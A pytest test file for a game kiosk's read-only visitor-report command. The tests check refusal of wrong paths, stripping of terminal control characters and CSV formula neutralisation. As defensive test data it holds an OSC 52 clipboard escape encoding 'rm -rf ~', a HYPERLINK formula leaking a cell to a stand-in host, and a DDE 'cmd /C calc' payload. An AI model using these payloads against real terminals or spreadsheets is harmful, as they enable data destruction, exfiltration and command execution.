"""The operator's report (`python main.py visitors`): it only reads.  Whatever the path names —
a config given by mistake, a folder, another program's database — it is left exactly as it
was, and the report says in one line why it cannot be read.  The CSV it writes is safe to
open in a spreadsheet."""

from __future__ import annotations

import csv
import os
import sqlite3
from pathlib import Path

import pytest

from game.cli import main
from game.visitor_book import COLUMNS, VisitorBook
from helpers import visit


def snapshot(folder: Path) -> dict[str, bytes | None]:
    """Every name under ``folder`` with its bytes (None for a folder), but for the index files
    SQLite itself keeps beside a WAL database that any reader opens (``-wal``, ``-shm``)."""
    return {str(p.relative_to(folder)): (None if p.is_dir() else p.read_bytes())
            for p in sorted(folder.rglob("*")) if not p.name.endswith(("-wal", "-shm"))}


def report(capsys, *args: str) -> tuple[int, list[str], list[str]]:
    code = main(["visitors", *args])
    out, err = capsys.readouterr()
    return code, out.splitlines(), err.splitlines()


@pytest.fixture
def book(tmp_path) -> VisitorBook:
    book = VisitorBook(tmp_path / "visitors.sqlite")
    book.record(visit())
    book.record(visit(950, ending="The quiet flat"))
    return book


def test_a_config_named_by_mistake_is_refused_and_left_as_it_was(tmp_path, capsys):
    config = tmp_path / "kiosk.json"
    config.write_text('{"staff_pin": "7291", "statistics": true}\n')
    before = snapshot(tmp_path)
    code, out, err = report(capsys, "--database", str(config))
    assert code == 2
    assert len(err) == 1 and "kiosk.json" in err[0] and "not a visitor database" in err[0]
    assert snapshot(tmp_path) == before
    assert os.listdir(tmp_path) == ["kiosk.json"]


def test_a_folder_named_as_the_database_is_refused_and_keeps_its_files(tmp_path, capsys):
    folder = tmp_path / "photos"
    folder.mkdir()
    (folder / "one.jpg").write_bytes(b"\xff\xd8 a photo")
    before = snapshot(tmp_path)
    code, _, err = report(capsys, "--database", str(folder))
    assert code == 2
    assert len(err) == 1 and "is a folder" in err[0]
    assert snapshot(tmp_path) == before


def test_another_programs_database_is_refused_and_not_written(tmp_path, capsys):
    other = tmp_path / "accounts.sqlite"
    with sqlite3.connect(other) as connection:
        connection.execute("CREATE TABLE accounts (name TEXT, balance INTEGER)")
        connection.execute("INSERT INTO accounts VALUES ('shop', 12)")
    connection.close()
    before = snapshot(tmp_path)
    code, _, err = report(capsys, "--database", str(other))
    assert code == 2
    assert len(err) == 1 and "not a visitor database" in err[0]
    assert snapshot(tmp_path) == before


def test_a_visitor_database_with_a_visits_table_of_another_shape_is_refused(tmp_path, capsys):
    odd = tmp_path / "visitors.sqlite"
    with sqlite3.connect(odd) as connection:
        connection.execute("CREATE TABLE visits (name TEXT)")
        connection.execute("PRAGMA user_version = 1")
    connection.close()
    before = snapshot(tmp_path)
    code, _, err = report(capsys, "--database", str(odd))
    assert code == 2 and len(err) == 1
    assert snapshot(tmp_path) == before


def test_a_missing_database_is_said_and_not_created(tmp_path, capsys):
    code, _, err = report(capsys, "--database", str(tmp_path / "nothing.sqlite"))
    assert code == 1
    assert len(err) == 1 and "no visitor statistics" in err[0]
    assert snapshot(tmp_path) == {}


def test_the_report_of_a_visitor_database_changes_none_of_its_rows(book, capsys):
    code, out, _ = report(capsys, "--database", str(book.path))
    assert code == 0 and "2 finished visits" in out[0]
    assert [v.ending for v in book.visits()] == ["The harbour", "The quiet flat"]


def test_names_in_the_database_reach_the_terminal_without_their_control_characters(tmp_path, capsys):
    book = VisitorBook(tmp_path / "visitors.sqlite")
    book.record(visit(ending="\x1b]52;c;cm0gLXJmIH4=\x07The \u202eharbour\n"))
    code, out, _ = report(capsys, "--database", str(book.path))
    assert code == 0
    shown = "\n".join(out)
    assert not any(ch in shown for ch in "\x1b\x07\u202e")
    assert any("The" in line and "harbour" in line for line in out)


@pytest.mark.parametrize("where", ["a folder", "a missing folder", "/dev/full"])
def test_a_csv_that_cannot_be_written_is_one_line_and_exit_2(book, tmp_path, capsys, where):
    target = {"a folder": tmp_path,
              "a missing folder": tmp_path / "no such folder" / "visits.csv",
              "/dev/full": Path("/dev/full")}[where]
    if where == "/dev/full" and not target.exists():
        pytest.skip("no /dev/full here")
    before = snapshot(tmp_path)
    code, _, err = report(capsys, "--database", str(book.path), "--csv", str(target))
    assert code == 2
    assert len(err) == 1 and str(target) in err[0]
    assert snapshot(tmp_path) == before


def test_a_csv_that_cannot_be_written_leaves_no_traceback_in_a_real_run(book, tmp_path):
    import subprocess
    import sys

    from helpers import ROOT

    done = subprocess.run([sys.executable, str(ROOT / "main.py"), "visitors", "--database", str(book.path),
                           "--csv", str(tmp_path / "missing" / "visits.csv")],
                          capture_output=True, text=True, timeout=120)
    assert done.returncode == 2
    assert "Traceback" not in done.stderr and len(done.stderr.splitlines()) == 1


def test_a_csv_replaces_an_earlier_export_whole(book, tmp_path, capsys):
    target = tmp_path / "visits.csv"
    target.write_text("an older export\n" * 1000)
    code, out, _ = report(capsys, "--database", str(book.path), "--csv", str(target))
    assert code == 0 and out[-1] == f"2 visits written to {target}"
    rows = list(csv.reader(target.open(newline="")))
    assert rows[0] == list(COLUMNS) and len(rows) == 3
    assert not [name for name in os.listdir(tmp_path) if name.endswith(".tmp")]


@pytest.mark.parametrize("title", ['=HYPERLINK("http://x.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0",
                                   "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"])
def test_a_title_a_spreadsheet_would_run_is_written_as_text(tmp_path, capsys, title):
    book = VisitorBook(tmp_path / "visitors.sqlite")
    book.record(visit(-40, ending=title))
    target = tmp_path / "visits.csv"
    assert report(capsys, "--database", str(book.path), "--csv", str(target))[0] == 0
    rows = list(csv.DictReader(target.open(newline="")))
    assert rows[0]["ending"] == "'" + title
    assert rows[0]["grade"] == "A" and rows[0]["score"] == "-40"


def test_plain_titles_are_written_as_they_are(book, tmp_path, capsys):
    target = tmp_path / "visits.csv"
    assert report(capsys, "--database", str(book.path), "--csv", str(target))[0] == 0
    rows = list(csv.DictReader(target.open(newline="")))
    assert [r["ending"] for r in rows] == ["The harbour", "The quiet flat"]


def test_the_report_counts_how_many_visitors_guessed_each_question_right(tmp_path, capsys):
    import io
    from dataclasses import replace

    from game.visitor_report import read_book, summary
    from game.visitor_report import report as run_report

    book = VisitorBook(tmp_path / "visitors.sqlite")
    plain = visit()
    book.record(replace(plain, guess_counting="yes", right_counting=1, guess_standing="higher", right_standing=0))
    book.record(replace(plain, guess_counting="no", right_counting=0, guess_standing="unsure"))
    book.record(replace(plain, guess_counting="yes", right_counting=1))
    book.record(plain)                                  # a visit from before the guesses were asked
    counts = summary(read_book(book.path))["guesses"]
    assert counts["counting"] == {"answered": 3, "right": 2, "wrong": 1, "unsure": 0}
    assert counts["standing"] == {"answered": 2, "right": 0, "wrong": 1, "unsure": 1}
    assert counts["reporters"] == {"answered": 0, "right": 0, "wrong": 0, "unsure": 0}
    target = tmp_path / "visits.csv"
    assert run_report(book.path, target, io.StringIO(), io.StringIO()) == 0
    rows = list(csv.reader(target.open(encoding="utf-8")))
    assert rows[0][6:12] == ["guess_counting", "right_counting", "guess_reporters", "right_reporters",
                             "guess_standing", "right_standing"]
    assert rows[1][6:12] == ["yes", "1", "", "", "higher", "0"] and rows[4][6:12] == ["", "", "", "", "", ""]
    out = io.StringIO()
    run_report(book.path, None, out, io.StringIO())
    assert "2 / 1 / 0 of 3  Was anything keeping count of what you did?" in out.getvalue()
